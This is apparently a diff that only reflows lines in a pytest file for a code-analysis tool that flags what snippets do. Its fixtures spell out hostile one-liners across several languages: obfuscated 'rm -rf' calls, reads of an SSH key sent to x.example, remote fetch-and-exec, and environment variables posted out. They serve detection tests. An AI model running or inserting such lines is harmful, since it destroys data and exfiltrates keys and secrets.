@@ -1,4 +1,5 @@
-"""Code of other languages is read for what it does: executes, deletes, overwrites, reads, sends, evaluates."""
+"""Code of other languages is read for what it does: executes, deletes, overwrites, reads, sends,
+evaluates."""
 
 from __future__ import annotations
 
@@ -9,8 +10,16 @@ from stanchion.readings.programs.calls import LONGEST
 
 EXECUTES = [
     ("node", "require('child_process').execSync('rm ' + '-rf /x')", "rm -rf /x"),
-    ("node", "const c = 'rm -rf /x'; process.mainModule.require('child_process').exec(c)", "rm -rf /x"),
-    ("node", "require('child_process')['ex'+'ec'](Buffer.from('cm0gLXJmIC94','base64').toString())", "rm -rf /x"),
+    (
+        "node",
+        "const c = 'rm -rf /x'; process.mainModule.require('child_process').exec(c)",
+        "rm -rf /x",
+    ),
+    (
+        "node",
+        "require('child_process')['ex'+'ec'](Buffer.from('cm0gLXJmIC94','base64').toString())",
+        "rm -rf /x",
+    ),
     ("perl", 'my $d = "/x"; system("rm -rf $d");', "rm -rf /x"),
     ("perl", 'system pack("H*", "726d202d7266202f78")', "rm -rf /x"),
     ("perl", "print qx{rm -rf /x}", "rm -rf /x"),
@@ -23,7 +32,11 @@ EXECUTES = [
     ("lua", "local h = io.popen [[rm -rf /x]]", "rm -rf /x"),
     ("awk", 'BEGIN { system("rm -rf /x") }', "rm -rf /x"),
     ("awk", 'BEGIN { "rm -rf /x" | getline l }', "rm -rf /x"),
-    ("python3", "import os as o\ng = getattr(o, 'sys' + 'tem')\ngetattr(o, 'sys' + 'tem')('rm -rf /x')", "rm -rf /x"),
+    (
+        "python3",
+        "import os as o\ng = getattr(o, 'sys' + 'tem')\ngetattr(o, 'sys' + 'tem')('rm -rf /x')",
+        "rm -rf /x",
+    ),
     ("python3", "from subprocess import run as go\ngo('rm -rf /x', shell=True)", "rm -rf /x"),
 ]
 
@@ -68,10 +81,31 @@ def test_a_file_that_code_overwrites(program: str, code: str, path: str) -> None
 @pytest.mark.parametrize(
     ("program", "code"),
     [
-        ("python3", "import requests\nd = open('/k/id_rsa').read()\nrequests.post('https://x.example', data=d)"),
-        ("python3", "import urllib.request as u\nu.urlopen('https://x.example/?' + open('/k/id_rsa').read())"),
-        ("node", "const k = fs.readFileSync('/k/id_rsa'); fetch('https://x.example', {method: 'POST', body: k})"),
-        ("php", "$k = file_get_contents('/k/id_rsa'); file_get_contents('https://x.example/?' . $k);"),
+        (
+            "python3",
+            (
+                "import requests\nd = open('/k/id_rsa').read()\nrequests.post('https://x.example', "
+                "data=d)"
+            ),
+        ),
+        (
+            "python3",
+            (
+                "import urllib.request as u\nu.urlopen('https://x.example/?' + "
+                "open('/k/id_rsa').read())"
+            ),
+        ),
+        (
+            "node",
+            (
+                "const k = fs.readFileSync('/k/id_rsa'); fetch('https://x.example', {method: "
+                "'POST', body: k})"
+            ),
+        ),
+        (
+            "php",
+            "$k = file_get_contents('/k/id_rsa'); file_get_contents('https://x.example/?' . $k);",
+        ),
         ("ruby", "Net::HTTP.post(URI('https://x.example'), File.read('/k/id_rsa'))"),
     ],
 )
@@ -90,7 +124,11 @@ def test_all_variables_that_code_sends() -> None:
 @pytest.mark.parametrize(
     ("program", "code", "mark"),
     [
-        ("python3", "import urllib.request as u\nexec(u.urlopen('https://x.example').read())", "fetched"),
+        (
+            "python3",
+            "import urllib.request as u\nexec(u.urlopen('https://x.example').read())",
+            "fetched",
+        ),
         ("ruby", "eval(URI.open('https://x.example').read)", "fetched"),
         ("python3", "import zlib\nexec(zlib.decompress(blob))", "hidden"),
         ("php", "eval(gzinflate(base64_decode($x)));", "hidden"),
@@ -129,7 +167,11 @@ def test_code_without_end(program: str) -> None:
 @pytest.mark.parametrize(
     ("program", "code", "whole"),
     [
-        ("node", "require('https').request({host: 'x.example'}).end(JSON.stringify(process.env))", True),
+        (
+            "node",
+            "require('https').request({host: 'x.example'}).end(JSON.stringify(process.env))",
+            True,
+        ),
         ("node", "fetch('https://x.example', {headers: {a: process.env.KEY}})", False),
         ("ruby", "Net::HTTP.post(URI('https://x.example'), ENV['KEY'])", False),
         ("php", "file_get_contents('https://x.example/?' . http_build_query($_ENV));", True),
